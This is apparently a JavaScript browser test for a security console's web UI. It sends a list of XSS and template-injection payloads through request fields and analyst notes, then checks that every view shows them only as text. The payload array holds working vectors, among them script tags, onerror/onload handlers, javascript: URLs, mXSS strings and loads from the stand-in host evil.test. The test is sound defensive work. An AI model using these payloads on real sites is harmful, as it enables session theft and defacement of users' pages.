// A corpus of payloads, driven through the Worker in every field a client controls and in the notes of colleagues, executes
// nothing in any view of the console: each would open a dialog, break the policy, ask another host, or leave an element.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startPair, waitFor } from '../workerd/harness.mjs';
import { ask, client, order, recorded } from '../workerd/scene.mjs';
import { openPage, show, signIn, startBrowser } from './chromium.mjs';

const RUN = 'alert(document.domain)';
const PAYLOADS = [
  `<script>${RUN}</script>`, `</script><script>${RUN}</script>`, `"><script src=//evil.test/x.js></script>`, `<img src=x onerror=${RUN}>`,
  `"><img/src/onerror=${RUN}>`, `' onmouseover='${RUN}`, `" autofocus onfocus=${RUN} x="`, `<svg onload=${RUN}>`, `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<iframe srcdoc="<script>${RUN}</script>">`, `<iframe src="javascript:${RUN}">`, `<a href="javascript:${RUN}">x</a>`, `javascript:${RUN}`,
  `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `<base href=//evil.test/>`, `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<link rel=stylesheet href=//evil.test/x.css>`, `<style>@import '//evil.test/x.css'</style>`, `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}>`,
  `<form action=//evil.test/><button>x`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `--><script>${RUN}</script>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `%3Cscript%3E${RUN}%3C/script%3E`, `../../../console/app.js`, `//evil.test/`, `__proto__`, `constructor`,
  `{"__html":"<img src=x onerror=${RUN}>"}`, `\u202e<script>${RUN}</script>`, `<ScRiPt >${RUN}</sCrIpT>`, `<x contenteditable onblur=${RUN}>x`,
];
/** Elements that the console never makes, and attributes that nothing of it has. */
const FOREIGN = 'iframe, object, embed, img, svg, math, video, base, style, x, form[action], meta[http-equiv], [srcdoc], script:not([src="/_throughline/console/app.js"])';

let pair;
let browser;
const JSON_TYPE = ['Content-Type', 'application/json'];

before(async () => {
  browser = await startBrowser();
  pair = await startPair({ vars: {
    DEV_CLIENT_HEADERS: true, LIMITS: { flush_ms: 20, unproven_sessions: 1_000 }, SESSION_KEYS: [{ from: 'request.cookie.sid' }],
    PARAMETERS: [
      { name: 'username', from: 'request.body#/username', role: 'user', store: 'plain' }, { name: 'role', from: 'request.body#/role', role: 'role', store: 'plain' },
      { name: 'comment', from: 'request.body#/comment', store: 'plain' },
    ],
  } });
});
after(async () => {
  await browser?.close();
  await pair?.stop();
});

test('a corpus of payloads executes nothing in any view', async () => {
  // What a header cannot hold is sent as the bytes of its UTF-8, or left out.
  const inHeader = (text) => Buffer.from(text.replaceAll(/[\0-\x1f]/g, ' ')).toString('latin1');
  let sent = 0;
  for (const [n, payload] of PAYLOADS.entries()) {
    const who = client(pair, { ip: `203.0.113.${n + 1}`, country: 'NL', asn: 64500, agent: `Mozilla/5.0 ${inHeader(payload)}`, cookie: `sid=visitor-${n}` });
    const encoded = encodeURIComponent(payload).replaceAll('.', '%2E');
    await who(`/api/${encoded}/x?q=${encoded}&${encoded}=1`, { headers: [['Referer', `https://x.test/${encoded}`], ['X-Odd', inHeader(payload)], ['X-Forwarded-For', inHeader(payload)]] });
    await who('/api/comments', { method: 'POST', headers: [JSON_TYPE], body: JSON.stringify({ username: payload, role: payload, comment: payload, [payload]: payload }) });
    await who('/api/feedback', { headers: [['x-feedback', 'order;user="someone"']] });
    sent += 3;
  }
  await recorded(pair, sent);
  await waitFor(async () => (await ask(pair, 'findings')).items.length >= 10, { what: 'findings', timeout: 20_000 });
  const { items: sessions } = await ask(pair, 'sessions?limit=500');
  assert.equal(sessions.length, PAYLOADS.length);
  const named = sessions.filter(({ users }) => users.length > 0);
  assert.ok(named.length > PAYLOADS.length / 2, `${named.length} sessions have a user`);
  const { items: [finding] } = await ask(pair, 'findings');
  // What colleagues write is shown to each other.
  const note = PAYLOADS[0];
  await ask(pair, `findings/${finding.id}/labels`, order({ label: 'false_positive', note }));
  await ask(pair, `sessions/${sessions[0].id}/labels`, order({ label: 'true_positive', note }));
  await ask(pair, 'blocks', order({ kind: 'ip', value: '192.0.2.77', reason: note }));
  await ask(pair, 'share', order({ session: sessions[0].id, note }));
  await ask(pair, 'documents', { method: 'POST', body: JSON.stringify({ openapi: '3.1.0', info: { title: note, version: note },
    paths: { '/api/{x}/x': { get: { operationId: note, summary: note, responses: { 200: { description: note } } } } } }) });

  const { page, troubles, close } = await openPage(browser, pair.worker.url);
  await signIn(page, pair.worker.url, pair.tokens.admin);
  const { items: endpoints } = await ask(pair, 'endpoints');
  const views = ['', 'sessions', 'findings', 'endpoints', 'documents', 'blocks', 'replay', 'audit', 'settings', 'events',
    ...endpoints.slice(0, 5).map(({ id }) => `endpoints/${id}`), ...sessions.map(({ id }) => `sessions/${id}`),
    ...PAYLOADS.flatMap((payload) => [`subjects/user/${encodeURIComponent(payload)}`, `sessions?q=${encodeURIComponent(payload)}&user=${encodeURIComponent(payload)}`, encodeURIComponent(payload)])];
  const texts = [];
  for (const view of views) {
    await show(page, view);
    const found = await page.evaluate((foreign) => ({
      text: document.body.innerText,
      elements: [...document.querySelectorAll(foreign)].map(({ outerHTML }) => outerHTML.slice(0, 200)),
      handlers: [...document.querySelectorAll('*')].flatMap(({ attributes, tagName }) => [...attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => `${tagName} ${name}`)),
      links: [...document.querySelectorAll('a')].map((a) => a.getAttribute('href')).filter((href) => !href.startsWith('/_throughline/console') && href !== '#main'),
    }), FOREIGN);
    const { text, ...bad } = found;
    assert.deepEqual(bad, { elements: [], handlers: [], links: [] }, view);
    texts.push(text);
  }
  // A request with everything known of it.
  await show(page, `sessions/${sessions[0].id}`);
  for (const event of await page.locator('.timeline .path button').all()) {
    await event.click();
    texts.push(await page.getByRole('dialog', { name: 'Event' }).innerText());
    await page.keyboard.press('Escape');
  }
  assert.deepEqual(troubles, []);
  assert.equal(page.url().startsWith(pair.worker.url), true);
  const all = texts.join('\n');
  for (const payload of ['<img src=x onerror=alert(document.domain)>', "{{constructor.constructor('alert(document.domain)')()}}", '<svg onload=alert(document.domain)>']) {
    assert.ok(all.includes(payload), `${payload} is shown as text`);
  }
  await close();
});
